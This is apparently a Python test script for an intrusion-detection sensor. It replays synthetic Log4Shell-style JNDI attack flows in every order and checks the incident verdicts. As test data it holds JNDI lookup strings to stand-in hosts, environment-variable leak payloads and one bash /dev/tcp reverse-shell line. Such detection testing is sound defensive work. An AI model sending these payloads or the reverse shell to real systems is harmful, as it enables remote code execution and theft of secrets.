#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""orders.py SENSOR: the flows of one attack, a capture file each, are read in every order, and come to the same.

Lookup, name, callback with a reference, class, second stage: whichever is read first, at the end there is one incident with
all stages, the verdict and the leaks that the attack has in its own order. The least of them is read with two workers, too.
Attacks of other makes, by names, referrals, proxies and two victims, come to the same verdict.
"""
import itertools
import json
import pathlib
import subprocess
import sys
import tempfile

import sensor as lab
from tale import EVIL, OTHER, RESOLVER, Tale, VICTIM, java_object

THIRD = "203.0.113.50"


def by_name(tale):
    return [lambda: tale.lookup("ldap://evil.example:1389/a"), lambda: tale.asks("evil.example", answer=EVIL),
            lambda: tale.search(codebase="http://%s:8888/" % EVIL), tale.fetch, tale.hello]


def with_leak(tale):
    """A value comes back in the callback, and the class calls a host that only it names."""
    return [lambda: tale.lookup("ldap://%s:1389/${env:USER}" % EVIL),
            lambda: tale.search("tomcat", codebase="http://%s:8888/" % EVIL),
            lambda: tale.fetch(words=["bash -i >& /dev/tcp/203.0.113.77/5555 0>&1"]), lambda: tale.hello(server="203.0.113.77", port=5555)]


# Of these it is the verdict that all orders must agree in: what is told in the end may know of fewer repeats.

def name_with_a_value(tale):
    """The name that is called has a value in it, and only DNS says which host it is."""
    return [lambda: tale.lookup("ldap://${env:USER}.evil.example:1389/a"), lambda: tale.asks("tomcat.evil.example", answer=EVIL),
            lambda: tale.search(codebase="http://%s:8888/" % EVIL), tale.fetch]


def value_by_resolver(tale):
    return [lambda: tale.lookup("ldap://${env:USER}.evil.example/a"), lambda: tale.asks("tomcat.evil.example", RESOLVER, server="192.0.2.53")]


def question(tale):
    return [lambda: tale.lookup("dns://%s/x.evil.example" % EVIL), lambda: tale.asks("x.evil.example", server=EVIL, kind=16)]


def other_port(tale):
    return [lambda: tale.lookup("ldap://%s:1389/a" % EVIL), tale.search, lambda: tale.fetch(port=9999)]


def fetched_object(tale):
    return [lambda: tale.lookup("ldap://%s:1389/a" % EVIL), lambda: tale.fetch(path="/service", body=java_object())]


def codebase_by_name(tale):
    return [lambda: tale.lookup("ldap://%s:1389/a" % EVIL), lambda: tale.search(codebase="http://cb.example:8000/"),
            lambda: tale.asks("cb.example", answer=THIRD), lambda: tale.fetch(server=THIRD, port=8000)]


def by_proxy(tale):
    return [lambda: tale.lookup("ldap://%s:1389/a" % EVIL), lambda: tale.search(codebase="http://cb.example:8000/"),
            lambda: tale.fetch(server="10.0.0.33", port=3128, path="http://%s/Payload.class", host="cb.example:8000")]


def referral(tale):
    return [lambda: tale.lookup("ldap://%s:1389/a" % EVIL), lambda: tale.referred("ldap://%s:1390/b" % THIRD),
            lambda: tale.search(server=THIRD, port=1390, codebase="http://203.0.113.51:8000/"),
            lambda: tale.fetch(server="203.0.113.51", port=8000)]


def second_victim(tale):
    return [lambda: tale.lookup("ldap://%s:1389/a" % EVIL), lambda: tale.search(client=OTHER, codebase="http://%s:8888/" % EVIL),
            lambda: tale.fetch(client=OTHER)]


def two_victims(tale):
    """Each was sent the string: none of them is a second one."""
    return [lambda: tale.lookup("ldap://%s:1389/a" % EVIL), lambda: tale.lookup("ldap://%s:1389/a" % EVIL, victim=OTHER),
            tale.search, lambda: tale.search(client=OTHER)]


def two_families(tale):
    return [lambda: tale.lookup("ldap://%s:1389/a" % EVIL), lambda: tale.search(codebase="http://[2001:db8::9]:8888/"),
            lambda: tale.fetch(client="fd00::1", server="2001:db8::9")]


VERDICTS = {name_with_a_value: [(VICTIM, "delivered", False)], value_by_resolver: [(VICTIM, "vulnerable", False)],
            question: [(VICTIM, "vulnerable", False)], other_port: [(VICTIM, "delivered", False)],
            fetched_object: [(VICTIM, "delivered", False)], codebase_by_name: [(VICTIM, "delivered", False)], by_proxy: [(VICTIM, "delivered", False)],
            referral: [(VICTIM, "delivered", False)],
            second_victim: [(None, "attempted", False), (OTHER, "delivered", True)],
            two_victims: [(VICTIM, "vulnerable", False), (OTHER, "vulnerable", False)],
            two_families: [(VICTIM, "delivered", False)]}


def attack(steps_of):
    """The tale, and the places where its flows are cut apart."""
    tale, cuts = Tale(), []
    for step in steps_of(tale):
        step()
        cuts.append(len(tale.frames))
    tale.browse(OTHER)  # somebody else looks at the place: no part of it
    return tale, cuts[:-1]


def replay(program, paths, workers):
    command = [program, "-j", "--deterministic", "--set", "workers=%d" % workers, "-S", str(lab.TOP / "rules/jndi.rules"),
               "-s", str(lab.TOP / "rules/incidents.rules")]
    for path in paths:
        command += ["-r", str(path)]
    run = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=300)
    if run.returncode != 0:
        sys.exit("%s\nexit status %d\n%s" % (" ".join(command), run.returncode, run.stderr.decode(errors="replace")))
    return run.stdout.decode()


def outcome(text):
    """What all orders must agree in: no number, and no time of telling. A connection without words is judged later than
    all else, and part of what is told only when something is told after it."""
    return json.dumps([[story["victim"], story["verdict"], story["confidence"], story["lookup"],
                        [[stage["stage"], stage["count"], stage["first_seen"]] for stage in story["stages"] if stage["stage"] != "connection"],
                        [[leak["variable"], leak["value"], leak["place"]] for leak in story.get("leaks", [])]]
                       for story in lab.incidents(text).values()])


def judge(program, steps_of, folder):
    tale, cuts = attack(steps_of)
    paths = tale.files(folder, "flow", cuts)
    wanted = outcome(replay(program, paths, 1))
    if '"compromised"' not in wanted or wanted.count('"10.0.0.1"') != 1 or ("leak" in steps_of.__name__) != ("env:USER\", \"t" in wanted):
        sys.exit("%s: in its own order the attack is %s" % (steps_of.__name__, wanted))
    orders, bad = list(itertools.permutations(paths)), []
    for order in orders:
        for workers in (1, 2) if order[0] == paths[-1] and order[-1] == paths[0] else (1,):
            found = outcome(replay(program, order, workers))
            if found != wanted:
                bad.append("%s, %d workers: %s" % (" ".join(path.stem for path in order), workers, found))
    if bad:
        sys.exit("wanted %s\n%s\n%d of %d orders are wrong" % (wanted, "\n".join(bad[:5]), len(bad), len(orders)))
    print("%s: %d orders, each %s" % (steps_of.__name__, len(orders), wanted))


def judge_verdict(program, steps_of, wanted, folder):
    tale, cuts = Tale(), []
    for step in steps_of(tale):
        step()
        cuts.append(len(tale.frames))
    paths, bad = tale.files(folder, steps_of.__name__, cuts[:-1]), []
    for order in itertools.permutations(paths):
        stories = lab.incidents(replay(program, order, 1)).values()
        found = [(story.get("victim"), story["verdict"], story.get("second_order", False)) for story in stories]
        if sorted(found, key=str) != sorted(wanted, key=str):
            bad.append("%s: %s" % (" ".join(path.stem for path in order), found))
    if bad:
        sys.exit("wanted %s\n%s\n%d orders are wrong" % (wanted, "\n".join(bad[:5]), len(bad)))
    print("%s: every order, %s" % (steps_of.__name__, wanted))


def main():
    with tempfile.TemporaryDirectory() as folder:
        for steps_of in (by_name, with_leak):
            judge(sys.argv[1], steps_of, pathlib.Path(folder))
        for steps_of, wanted in VERDICTS.items():
            judge_verdict(sys.argv[1], steps_of, wanted, pathlib.Path(folder))


if __name__ == "__main__":
    main()
